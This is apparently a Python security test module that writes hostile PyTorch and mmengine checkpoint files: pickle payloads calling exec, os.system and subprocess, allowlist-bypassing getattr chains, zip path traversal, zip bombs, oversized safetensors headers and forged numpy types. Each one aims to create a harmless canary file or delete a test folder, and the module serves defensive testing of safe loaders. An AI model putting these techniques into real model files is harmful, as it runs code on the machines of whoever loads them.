"""Checkpoints that attack whoever reads them: each tries to make the file `canary`, or worse.

`CASES` has a writer for each: `CASES[name].write(folder, canary)` returns the file's path. `toy_runner` is mmengine's
Runner with a tiny model. Run as a script in a process of its own, it reads the cases as plain torch and mmengine do and
prints the names of those that do harm: the proof that they are loaded.

    python hostile_checkpoints.py FOLDER
"""

import builtins
import io
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import torch
from mmengine.evaluator import BaseMetric, Evaluator
from mmengine.logging import HistoryBuffer
from mmengine.model import BaseModel
from mmengine.runner import Runner


class Case(NamedTuple):
    """How a file is written, and what becomes of it.

    Attributes:
        write: From the folder and the canary's path to the file's path.
        fires: Whether full unpickling makes the canary.
        refused: Whether reading it must fail; otherwise it is read without harm.
        resumes: Whether a plain Runner that goes on from it makes the canary or deletes the folder beside it.
    """

    write: Callable[[Path, Path], Path]
    fires: bool = True
    refused: bool = True
    resumes: bool = False


class Call:
    """Pickles as a call of a function."""

    def __init__(self, function: Callable, *arguments) -> None:
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def code(canary: Path) -> str:
    return f'open({str(canary)!r}, "w").close()'


def attack(canary: Path) -> Call:
    return Call(builtins.exec, code(canary))


def weights() -> OrderedDict:
    return OrderedDict([('l.weight', torch.ones(1, 2)), ('l.bias', torch.zeros(1))])


def checkpoint(**extra) -> dict:
    """As mmengine's Runner saves one."""
    hub = dict(
        log_scalars=OrderedDict(), runtime_info=OrderedDict(epoch=1, iter=4), resumed_keys=OrderedDict(epoch=True)
    )
    return dict(meta=dict(epoch=1, iter=4, seed=0), state_dict=weights(), message_hub=hub) | extra


def saved(make: Callable[[Path], object], **options) -> Callable[[Path, Path], Path]:
    """Writer of what ``make(canary)`` returns, by torch."""

    def write(folder: Path, canary: Path) -> Path:
        torch.save(make(canary), folder / 'w.pth', **options)
        return folder / 'w.pth'

    return write


def calling(function: Callable, argument: Callable[[Path], object]) -> Callable[[Path, Path], Path]:
    return saved(lambda canary: checkpoint(extra=Call(function, argument(canary))))


# ---- pickles by hand, in the words of protocol 2


def named(module: str, name: str) -> bytes:
    return f'c{module}\n{name}\n'.encode()


def text(value: str) -> bytes:
    return b'X' + struct.pack('<I', len(value.encode())) + value.encode()


def called(function: bytes, *arguments: bytes) -> bytes:
    return function + b'(' + b''.join(arguments) + b'tR'


def attribute(owner: bytes, name: str) -> bytes:
    return called(named('__builtin__', 'getattr'), owner, text(name))


def entry(value: bytes, key: str = 'extra') -> bytes:
    """A pickle of ``dict(state_dict={}, <key>=value)``."""
    return b'\x80\x02}(' + text('state_dict') + b'}' + text(key) + value + b'u.'


def zipped(path: Path, *members: tuple[str, bytes]) -> Path:
    """A zip file as torch lays one out; later members may have the names of earlier ones."""
    with zipfile.ZipFile(path, 'w') as archive:
        for name, content in (('w/version', b'3\n'), ('w/byteorder', b'little'), *members):
            archive.writestr(name, content)
    return path


def by_hand(make: Callable[[Path], bytes]) -> Callable[[Path, Path], Path]:
    return lambda folder, canary: zipped(folder / 'w.pth', ('w/data.pkl', make(canary)), ('w/data/0', bytes(4)))


HISTORY = named('mmengine.logging.history_buffer', 'HistoryBuffer')


def getattr_chain(canary: Path) -> bytes:
    """HistoryBuffer.mean.__globals__['__builtins__']['exec'](code): no name but allowed ones and getattr."""
    names = attribute(attribute(HISTORY, 'mean'), '__globals__')
    found = called(attribute(names, 'get'), text('__builtins__'))
    return entry(called(called(attribute(found, 'get'), text('exec')), text(code(canary))))


def persistent_id(canary: Path) -> bytes:
    """The id of a tensor's numbers is a tuple whose parts are unpickled first."""
    run = called(named('__builtin__', 'exec'), text(code(canary)))
    return entry(b'(' + text('storage') + run + text('0') + text('cpu') + b'K\x01tQ')


def persistent_name(canary: Path) -> bytes:
    """Numbers that are to be read from outside the archive."""
    storage = b'(' + text('storage') + named('torch', 'FloatStorage') + text('../../../../etc/passwd')
    return entry(storage + text('cpu') + b'K\x01tQ')


def huge_tensor(canary: Path) -> bytes:
    """One stored number that claims to be a tensor of 4 TB."""
    storage = b'(' + text('storage') + named('torch', 'FloatStorage') + text('0') + text('cpu') + b'K\x01tQ'
    size = b'\x8a\x06' + (10**12).to_bytes(6, 'little')
    hooks = called(named('collections', 'OrderedDict'))
    rebuild = named('torch._utils', '_rebuild_tensor_v2')
    return entry(called(rebuild, storage, b'K\x00', size + b'\x85', b'K\x01\x85', b'\x89', hooks))


def array(shape: bytes, dtype: bytes, data: bytes) -> bytes:
    """A NumPy array as NumPy pickles it."""
    empty = called(named('numpy.core.multiarray', '_reconstruct'), named('numpy', 'ndarray'), b'K\x00\x85', text('b'))
    data = called(named('_codecs', 'encode'), text(data.decode('latin1')), text('latin1'))
    return empty + b'(K\x01' + shape + dtype + b'\x89' + data + b'tb'


def forged_dtype(canary: Path) -> bytes:
    """An array of objects whose pointers are bytes of the file: the type's flags say that it holds plain numbers."""
    dtype = called(named('numpy', 'dtype'), text('O8'), b'\x89', b'\x88')
    dtype += b'(K\x03' + text('|') + b'NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb'
    return entry(array(b'K\x01\x85', dtype, b'A' * 8))


def covered_methods(canary: Path) -> dict:
    """Attributes in the place of methods: ``state_dict.copy()`` would call what the file says."""
    content = checkpoint()
    content['state_dict'].__dict__['copy'] = torch.device
    content['state_dict'].__dict__['_metadata'] = OrderedDict()
    return content


def tensor_hooks(canary: Path) -> dict:
    tensor = torch.ones(1, 2, requires_grad=True)
    tensor.cpu = 'a name that a method has'
    return checkpoint(extra=tensor)


def itself(canary: Path) -> dict:
    content = []
    content.append((content,))
    return checkpoint(extra=content)


def deep(canary: Path) -> bytes:
    return entry(b'N' + b'\x85' * 100_000)


def history(canary: Path, **state) -> dict:
    buffer = HistoryBuffer([1.0], [1])
    buffer.__dict__.update(state)
    return checkpoint(message_hub=dict(log_scalars={'loss': buffer}, runtime_info={}, resumed_keys={}))


def hostile_methods(canary: Path) -> bytes:
    """A log history that makes ``min`` what ``max`` is, for every other log history of the process."""
    empty = array(b'K\x00\x85', called(named('numpy', 'dtype'), text('f8'), b'\x89', b'\x88'), b'')
    state = b'}(' + text('_log_history') + empty + text('_count_history') + empty + text('max_length') + b'K\x05'
    state += text('statistics_methods') + b'}' + text('min') + attribute(HISTORY, 'max') + b's' + b'u'
    return entry(HISTORY + b')\x81' + state + b'b')


# ---- containers


def second_pickle(first: bool) -> Callable[[Path, Path], Path]:
    def write(folder: Path, canary: Path) -> Path:
        good, bad = pickle.dumps(checkpoint(state_dict={}), 2), pickle.dumps(checkpoint(extra=attack(canary)), 2)
        return zipped(folder / 'w.pth', *(('w/data.pkl', part) for part in ((bad, good) if first else (good, bad))))

    return write


def other_case(folder: Path, canary: Path) -> Path:
    good, bad = pickle.dumps({'state_dict': {}}, 2), pickle.dumps({'extra': attack(canary)}, 2)
    return zipped(folder / 'w.pth', ('w/data.pkl', good), ('w/DATA.pkl', bad))


def bomb(folder: Path, canary: Path) -> Path:
    """A megabyte that unpacks to 256."""
    path = folder / 'w.pth'
    zipped(path, ('w/data.pkl', pickle.dumps({'state_dict': {}}, 2)))
    with (
        zipfile.ZipFile(path, 'a', zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open('w/data/0', 'w') as member,
    ):
        for _ in range(16):
            member.write(bytes(1 << 24))
    return path


def outside(folder: Path, canary: Path) -> Path:
    members = ('w/data.pkl', pickle.dumps({'state_dict': {}}, 2)), (f'../../..{canary}', b'x')
    return zipped(folder / 'w.pth', *members)


def bare(protocol: int, suffix: str = '.pth') -> Callable[[Path, Path], Path]:
    def write(folder: Path, canary: Path) -> Path:
        path = folder / f'w{suffix}'
        path.write_bytes(pickle.dumps({'state_dict': {}, 'extra': attack(canary)}, protocol))
        return path

    return write


def instance(folder: Path, canary: Path) -> Path:
    """The oldest way to call a function."""
    (folder / 'w.pth').write_bytes(b'\x80\x02(V' + f'touch {canary}'.encode() + b'\nios\nsystem\n.')
    return folder / 'w.pth'


def joblib_like(folder: Path, canary: Path) -> Path:
    import joblib

    joblib.dump({'state_dict': np.ones(3), 'extra': attack(canary)}, folder / 'w.pth')
    return folder / 'w.pth'


def tar(folder: Path, canary: Path) -> Path:
    """The format of torch before 0.1.10."""
    with tarfile.open(folder / 'w.pth', 'w') as archive:
        for name in ('sys_info', 'pickle', 'tensors', 'storages'):
            content = pickle.dumps(attack(canary), 2)
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return folder / 'w.pth'


def safetensors(length: int, header: bytes) -> Callable[[Path, Path], Path]:
    def write(folder: Path, canary: Path) -> Path:
        (folder / 'w.safetensors').write_bytes(struct.pack('<Q', length) + header)
        return folder / 'w.safetensors'

    return write


def load_from_bytes(canary: Path) -> Call:
    inner = io.BytesIO()
    torch.save(attack(canary), inner, _use_new_zipfile_serialization=False)
    return Call(torch.storage._load_from_bytes, inner.getvalue())


def config(canary: Path) -> str:
    return f'import builtins\nx = builtins.open({str(canary)!r}, "w").close()\n'


def with_info(canary: Path, **info) -> dict:
    content = checkpoint()
    content['message_hub']['runtime_info'].update(info)
    return content


def old_best(canary: Path) -> dict:
    """mmengine deletes the folder that is the best checkpoint so far."""
    best, ids = str(canary.parent / 'precious'), ['../../precious', *range(9)]
    return with_info(canary, best_ckpt=best, **{'best_ckpt_acc/top1': best}, best_score=0.0, keep_ckpt_ids=ids)


HUGE = b'{"a":{"dtype":"F32","shape":[1099511627776],"data_offsets":[0,4398046511104]}}'
CASES = {
    'os.system': Case(calling(os.system, lambda canary: f'touch {canary}')),
    'eval': Case(calling(eval, code)),
    'exec': Case(calling(exec, code)),
    'subprocess': Case(calling(subprocess.check_call, lambda canary: ['touch', str(canary)])),
    'nested': Case(saved(lambda canary: checkpoint(extra=[{'a': (1, [{'b': {attack(canary): 2}}])}]))),
    'key of the weights': Case(saved(lambda canary: {'state_dict': {attack(canary): torch.ones(1)}})),
    'among the weights': Case(saved(lambda canary: weights() | {'l.other': attack(canary)})),
    'optimizer state': Case(
        saved(lambda canary: checkpoint(optimizer=dict(state={0: attack(canary)}, param_groups=[dict(lr=1)])))
    ),
    'scheduler': Case(saved(lambda canary: checkpoint(param_schedulers=[dict(last_step=attack(canary))]))),
    'message hub': Case(saved(lambda canary: with_info(canary, epoch=attack(canary)))),
    'array of objects': Case(saved(lambda canary: checkpoint(extra=np.array([attack(canary), None], dtype=object)))),
    'getattr chain': Case(by_hand(getattr_chain)),
    'persistent id': Case(by_hand(persistent_id)),
    'persistent name': Case(by_hand(persistent_name), fires=False),
    'mmengine as a tool': Case(
        by_hand(
            lambda canary: entry(
                called(
                    attribute(named('mmengine.config.config', 'Config'), 'fromstring'),
                    text(config(canary)),
                    text('.py'),
                )
            )
        )
    ),
    'rebuild of a subclass': Case(
        by_hand(
            lambda canary: entry(
                called(
                    named('torch._tensor', '_rebuild_from_type_v2'),
                    named('__builtin__', 'exec'),
                    named('torch', 'Tensor'),
                    b'(' + text(code(canary)) + b't',
                    b'N',
                )
            )
        )
    ),
    'load_from_bytes': Case(saved(lambda canary: checkpoint(extra=load_from_bytes(canary)))),
    'log history': Case(saved(lambda canary: history(canary, _log_history=attack(canary)))),
    'log history with an attribute': Case(saved(lambda canary: history(canary, update=attack(canary)))),
    'log history with methods': Case(by_hand(hostile_methods), fires=False),
    'forged type': Case(by_hand(forged_dtype), fires=False),
    'huge tensor': Case(by_hand(huge_tensor), fires=False),
    'contains itself': Case(saved(itself), fires=False),
    'deep': Case(by_hand(deep), fires=False),
    'covered methods': Case(saved(covered_methods), fires=False, refused=False),
    'tensor with attributes': Case(saved(tensor_hooks), fires=False, refused=False),
    'old format': Case(
        saved(lambda canary: checkpoint(extra=attack(canary)), _use_new_zipfile_serialization=False),
    ),
    'protocol 4': Case(saved(lambda canary: checkpoint(extra=attack(canary)), pickle_protocol=4)),
    'bare pickle': Case(bare(2, '.bin')),
    'bare pickle of protocol 4': Case(bare(4)),
    'instance': Case(instance),
    'joblib': Case(joblib_like, fires=False),  # joblib.load fires
    'tar': Case(tar),
    'hostile pickle, then another': Case(second_pickle(first=True)),
    'pickle, then a hostile one': Case(second_pickle(first=False), fires=False),
    'pickle in capitals': Case(other_case, fires=False),
    'zip bomb': Case(bomb, fires=False),
    'member outside': Case(outside, fires=False),
    'safetensors with a huge header': Case(safetensors(1 << 62, b'{"a":' + b' ' * 100), fires=False),
    'safetensors with a huge tensor': Case(safetensors(len(HUGE), HUGE), fires=False),
    'safetensors with a deep header': Case(safetensors(100_000, b'{"a":' + b'[' * 99_995), fires=False),
    'config in meta': Case(
        saved(lambda canary: checkpoint(meta=dict(epoch=1, iter=4, config=config(canary), cfg=config(canary)))),
        fires=False,
        refused=False,
        resumes=True,
    ),
    'config in the message hub': Case(
        saved(lambda canary: with_info(canary, cfg=config(canary))), fires=False, refused=False
    ),
    'best checkpoint elsewhere': Case(saved(old_best), fires=False, refused=False, resumes=True),
}


class Toy(BaseModel):
    def __init__(self) -> None:
        super().__init__()
        self.l = torch.nn.Linear(2, 1)

    def forward(self, inputs: torch.Tensor, mode: str = 'tensor') -> Any:
        outputs = self.l(inputs)
        return dict(loss=outputs.square().mean()) if mode == 'loss' else [outputs]


class Half(BaseMetric):
    """Always 0.5."""

    def process(self, data_batch: Any, data_samples: Any) -> None:
        self.results.append(1)

    def compute_metrics(self, results: list) -> dict[str, float]:
        return {'acc': np.float64(0.5)}


class Pairs(torch.utils.data.Dataset):
    def __init__(self) -> None:
        self.metainfo = dict(classes=('a', 'b'), scales=np.arange(3.0))

    def __len__(self) -> int:
        return 4

    def __getitem__(self, index: int) -> dict[str, torch.Tensor]:
        return dict(inputs=torch.tensor([index, 1.0]))


def toy_runner(work_dir: Path, max_epochs: int = 2, **options) -> Runner:
    """Trains two epochs of four steps, validates after each, and keeps the newest and the best checkpoint."""

    def loader() -> dict:
        collate = dict(type='default_collate')
        return dict(dataset=Pairs(), batch_size=1, sampler=dict(type='DefaultSampler'), collate_fn=collate)

    return Runner(
        model=Toy(),
        work_dir=str(work_dir),
        train_dataloader=loader() | dict(num_workers=0),
        val_dataloader=loader() | dict(num_workers=0),
        val_evaluator=Evaluator(Half()),
        train_cfg=dict(by_epoch=True, max_epochs=max_epochs),
        val_cfg=dict(),
        optim_wrapper=dict(optimizer=dict(type='AdamW', lr=0.01)),
        param_scheduler=[
            dict(type='OneCycleLR', eta_max=0.1, total_steps=20),
            dict(type='MultiStepLR', milestones=[1, 2]),
        ],
        default_hooks=dict(checkpoint=dict(type='CheckpointHook', save_best='acc', max_keep_ckpts=1)),
        experiment_name=f'toy_{work_dir.parent.name}_{work_dir.name}',
        **options,
    )


def harm(canary: Path) -> bool:
    """Whether the canary is there or the folder beside it is not what it was."""
    return canary.exists() or not (canary.parent / 'precious' / 'file').is_file()


def prepared(folder: Path) -> Path:
    """A folder for one case, with something that may be deleted; returns the canary's path."""
    (folder / 'precious').mkdir(parents=True)
    (folder / 'precious' / 'file').write_text('precious')
    return folder / 'canary'


def fire(folder: Path) -> list[str]:
    """Unpickles the cases that fire in full, and resumes from those that do harm so; the names of those that did."""
    fired = []
    for number, (name, case) in enumerate(CASES.items()):
        if not case.fires and not case.resumes:
            continue
        canary = prepared(folder / str(number))
        path = case.write(canary.parent, canary)
        assert not harm(canary), f'{name}: writing it fires already'
        try:
            if case.fires:
                torch.load(path, map_location='cpu', weights_only=False)
            else:
                toy_runner(canary.parent / 'run', load_from=str(path), resume=True).train()
        # What is left when the code has run may be no checkpoint.
        except Exception as error:
            print(f'{name}: {type(error).__name__}', file=sys.stderr)
        if harm(canary):
            fired.append(name)
    return fired


if __name__ == '__main__':
    names = fire(Path(sys.argv[1]))
    print('\n'.join(['fired:', *names]))
